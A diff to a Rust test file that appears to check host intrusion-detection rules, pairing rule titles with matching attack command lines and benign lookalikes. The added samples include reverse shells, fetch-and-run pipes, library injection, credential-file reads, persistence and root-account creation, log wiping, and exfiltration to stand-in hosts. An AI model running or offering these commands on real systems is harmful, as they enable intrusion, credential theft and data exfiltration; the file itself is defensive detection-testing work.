@@ -24,7 +24,7 @@ fn titles(rules: &Indicators, example: &str) -> BTreeSet<String> {
 const EXAMPLES: &[(&str, &[&str], &str)] = &[
     (
         "Shell joined to a network socket by /dev/tcp",
-        &["/bin/bash bash -c cat </dev/tcp/10.0.0.1/80"],
+        &["/bin/bash bash -c cat </dev/tcp/10.0.0.1/80", "/usr/bin/gawk gawk BEGIN{s=\"/inet/tcp/0/h/80\"}"],
         "/bin/ls ls /dev/tty",
     ),
     (
@@ -32,12 +32,28 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
         &[
             "/bin/sh sh -c curl -s http://a.example/x|sh",
             "/bin/sh sh -c wget -O- https://a.example/x | /bin/bash -s",
+            "/bin/sh sh -c curl -s a.example/x | sudo sh",
+            "/bin/bash bash -c bash <(curl -s a.example/x)",
+            "/bin/sh sh -c eval \"$(wget -qO- a.example/x)\"",
         ],
         "/bin/sh sh -c curl http://a.example/x | sha256sum",
     ),
     (
+        "Code that runs what it fetches",
+        &[
+            "/usr/bin/python3 python3 -c exec(urllib.request.urlopen(u).read())",
+            "/usr/bin/ruby ruby -ropen-uri -e eval(URI.open(u).read)",
+        ],
+        "/usr/bin/python3 python3 -c print(urllib.request.urlopen(u).read())",
+    ),
+    (
         "Code that ties a socket to a shell",
-        &["/usr/bin/python3 python3 -c import socket,os;s.connect((h,1));os.dup2(s.fileno(),0)"],
+        &[
+            "/usr/bin/python3 python3 -c import socket,os;s.connect((h,1));os.dup2(s.fileno(),0)",
+            "/usr/bin/node node -e c=new net.Socket();p=require('child_process').spawn('sh')",
+            "/usr/bin/php php -r $s=fsockopen(h,1);exec('sh <&3')",
+            "/usr/bin/ruby ruby -rsocket -e exec(sprintf('sh <&%d',TCPSocket.new(h,1)))",
+        ],
         "/usr/bin/python3 python3 -c import socket;s.connect((h,1))",
     ),
     (
@@ -51,12 +67,20 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
     ),
     (
         "A named pipe makes netcat a shell",
-        &["/bin/sh sh -c mkfifo f; cat f | sh -i 2>&1 | nc 10.0.0.1 80 > f"],
+        &[
+            "/bin/sh sh -c mkfifo f; cat f | sh -i 2>&1 | nc 10.0.0.1 80 > f",
+            "/bin/sh sh -c openssl s_client -quiet -connect h:1 | sh",
+        ],
         "/usr/bin/mkfifo mkfifo /run/sync ",
     ),
     (
         "Text is decoded on the command line",
-        &["/bin/sh sh -c echo aWQ= | base64 -d"],
+        &[
+            "/bin/sh sh -c echo aWQ= | base64 -d",
+            "/usr/bin/base64 base64 -i -d x",
+            "/usr/bin/node node -e eval(Buffer.from('aWQ=','base64'))",
+            "/bin/sh sh -c printf '\\x69\\x64\\x0a\\x0a'|sh",
+        ],
         "/usr/bin/base64 base64 /etc/web.conf",
     ),
     (
@@ -75,13 +99,37 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
     ),
     (
         "A library is pushed into a program",
-        &["/usr/bin/env env LD_PRELOAD=/tmp/x.so id"],
+        &[
+            "/usr/bin/env env LD_PRELOAD=/tmp/x.so id",
+            "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 ld.so /tmp/x",
+            "/bin/sh sh -c echo /srv/x.so > /etc/ld.so.preload",
+        ],
         "/usr/bin/env env LD_PRELOAD=/usr/lib/libjemalloc.so redis-server",
     ),
     (
         "A file of credentials is named",
-        &["/bin/cat cat /etc/shadow", "/bin/tar tar cf x /srv/*.pem"],
-        "/bin/cat cat /etc/passwd",
+        &["/bin/cat cat /root/.pgpass", "/bin/tar tar cf x /srv/*.pem"],
+        "/bin/cat cat /etc/web.conf",
+    ),
+    ("The file of password hashes is named", &["/bin/cat cat /etc/shadow"], "/bin/cat cat /srv/shadow"),
+    (
+        "The cloud's metadata service is asked",
+        &[
+            "/usr/bin/curl curl http://169.254.169.254/",
+            "/usr/bin/wget wget -O- http://metadata.google.internal/x",
+        ],
+        "/usr/bin/curl curl http://meta.example/latest/data",
+    ),
+    (
+        "Accounts are looked up",
+        &[
+            "/usr/bin/id id",
+            "/bin/cat cat /etc/passwd",
+            "/usr/bin/cut cut -d: -f1 /etc/passwd",
+            "/usr/bin/getent getent group",
+            "/usr/bin/sudo sudo -l",
+        ],
+        "/usr/bin/getent getent hosts db",
     ),
     (
         "The cluster is asked for its secrets",
@@ -92,14 +140,36 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
         "/usr/bin/curl curl https://shop.example/api/v1/orders",
     ),
     (
-        "Passwords are searched for by name",
-        &["/bin/grep grep -ri password /srv"],
+        "Secrets are searched for",
+        &["/bin/grep grep -ri password /srv", "/usr/bin/find find / -type f -name *.kdbx"],
         "/bin/grep grep error /srv/log",
     ),
     (
         "A place is named from which programs are started again",
-        &["/bin/sh sh -c echo x >> /root/.ssh/authorized_keys", "/usr/bin/crontab ct -l"],
-        "/bin/cat cat /srv/web.conf",
+        &["/bin/cat cat /root/.ssh/authorized_keys", "/usr/bin/crontab ct -l"],
+        "/usr/bin/run-parts run-parts /etc/cron.daily",
+    ),
+    (
+        "What is started again is changed",
+        &[
+            "/bin/sh sh -c echo x >> /root/.ssh/authorized_keys",
+            "/usr/bin/crontab crontab -",
+            "/usr/bin/crontab crontab /srv/x",
+            "/bin/cp cp /srv/x /etc/cron.d/x",
+            "/bin/sed sed -i 1s/^/x/ /etc/pam.d/su",
+            "/usr/bin/tee tee -a /etc/rc.local",
+        ],
+        "/bin/cp cp /srv/cron.d/x /srv/y",
+    ),
+    (
+        "An account is given the rights of root",
+        &[
+            "/usr/sbin/useradd useradd -o -u 0 x",
+            "/usr/sbin/usermod usermod -aG sudo x",
+            "/bin/sh sh -c echo x::0:0::/:/bin/sh >> /etc/passwd",
+            "/bin/sh sh -c echo 'x ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/x",
+        ],
+        "/bin/echo echo a:0:0:b",
     ),
     (
         "A program is given another's rights",
@@ -152,7 +222,12 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
     ("The cluster's inner ports are called", &["10.0.0.1:10250"], "10.0.0.1:5432"),
     (
         "Logs or the shell's history are removed",
-        &["/bin/sh sh -c history -c", "/bin/rm rm -rf /var/log/nginx"],
+        &[
+            "/bin/sh sh -c history -c",
+            "/bin/rm rm -rf /var/log/nginx",
+            "/bin/sed sed -i /10.0.0.1/d /var/log/nginx/access.log",
+            "/bin/sh sh -c id; cat /dev/null > /var/log/auth.log",
+        ],
         "/bin/cat cat /var/log/nginx/access.log",
     ),
     (
@@ -190,6 +265,10 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
         &[
             "/usr/bin/curl curl -F f=@/srv/db https://a.example",
             "/usr/bin/curl curl --data-binary @db http://a.example",
+            "/usr/bin/scp scp /srv/db x@a.example:/",
+            "/bin/sh sh -c nc a.example 80 < /srv/db",
+            "/bin/sh sh -c tar c /srv | ssh a.example cat",
+            "/usr/bin/aws aws s3 cp /srv/db s3://x",
         ],
         "/usr/bin/curl curl -d x=1 http://a.example",
     ),
@@ -209,6 +288,22 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
         "/usr/bin/curl curl https://profile.io/x",
     ),
     ("A port that remote shells wait on", &["203.0.113.9:4444"], "203.0.113.9:80"),
+    (
+        "Ports are tried by a tool that is no scanner",
+        &[
+            "/bin/nc nc -zv 10.0.0.1 1-1024",
+            "/bin/bash bash -c for p in 22 80; do echo > /dev/tcp/h/$p; done",
+        ],
+        "/bin/nc nc -zv 10.0.0.1 5432",
+    ),
+    (
+        "A database is told to leave its tables",
+        &[
+            "/usr/bin/psql psql -c COPY t FROM PROGRAM 'id'",
+            "/usr/bin/redis-cli redis-cli config set dir /root/.ssh",
+        ],
+        "/usr/bin/redis-cli redis-cli config set maxmemory 1gb",
+    ),
 ];
 
 #[test]
